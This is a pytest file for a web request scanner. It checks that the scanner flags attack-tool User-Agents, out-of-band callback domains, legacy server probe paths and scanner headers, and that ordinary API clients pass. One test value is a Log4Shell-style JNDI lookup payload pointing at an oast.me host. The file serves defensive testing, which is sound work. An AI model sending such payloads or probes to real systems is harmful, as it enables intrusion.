"""Known attack tools: User-Agents, scanner headers, OAST domains."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families, request_rules
from vaultgate.core.request import Request
from vaultgate.detect.scanner import check_headers

TOOL_AGENTS = [
    "sqlmap/1.7.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Fuzz Faster U Fool v2.0.0",
    "gobuster/3.6",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Havij",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "Arachni/v1.5.1",
    "DirBuster-1.0-RC1 "
    "(http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
]

CLIENT_AGENTS = [
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.6.2",
    "Java/17.0.9",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "PostmanRuntime/7.36.0",
    "insomnia/8.4.0",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
]


@pytest.mark.parametrize("agent", TOOL_AGENTS)
def test_tool_user_agents_fire(agent: str) -> None:
    assert "scanner" in families(agent, "header", "user-agent")


@pytest.mark.parametrize("agent", CLIENT_AGENTS + benign_values())
def test_api_client_agents_pass(agent: str) -> None:
    assert "scanner" not in families(agent, "header", "user-agent")


@pytest.mark.parametrize(
    "payload",
    [
        "http://x1y2.burpcollaborator.net/a",
        "${jndi:ldap://a.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}",
        "root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh",
        "x.oastify.com",
    ],
)
def test_collaborator_domains_fire_anywhere(payload: str) -> None:
    assert "scanner" in families(payload, "json", "$.website")


@pytest.mark.parametrize(
    "path", ["/scripts/tools/drvrs.exe", "/iisadmpwd/achg.htr", "/_vti_pvt/", "/a.nsf"]
)
def test_probes_for_server_artefacts_fire(path: str) -> None:
    assert "scanner" in families(path, "path", "")


@pytest.mark.parametrize(
    "path", ["/v1/domains/example.com", "/v1/files/report.pdf", "/v1/accounts/42"]
)
def test_api_paths_pass(path: str) -> None:
    assert "scanner" not in families(path, "path", "")


def test_scanner_headers_fire() -> None:
    raw = (
        b"GET / HTTP/1.1\r\nHost: api.example\r\n"
        b'Acunetix-Product: WVS/13.0\r\nX-Scan-Memo: Category="Audit"\r\n\r\n'
    )
    assert "scanner.header" in request_rules(raw)


# The check returns early when no scanner header is present; these show
# the early exit does not hide one, whatever its case or position.
@pytest.mark.parametrize("name", ["Acunetix-Product", "X-WIPP", "bugbounty"])
def test_scanner_header_fires_among_ordinary_headers(name: str) -> None:
    headers = [("Host", "api.example"), (name, "1"), ("Accept", "*/*")]
    request = Request("GET", "/", headers, "192.0.2.1")
    found = check_headers(request)
    assert [f.location for f in found] == ["header:" + name.lower()]


def test_ordinary_headers_give_no_scanner_finding() -> None:
    headers = [("Host", "api.example"), ("X-Scan-Id", "7")]
    assert check_headers(Request("GET", "/", headers, "192.0.2.1")) == []
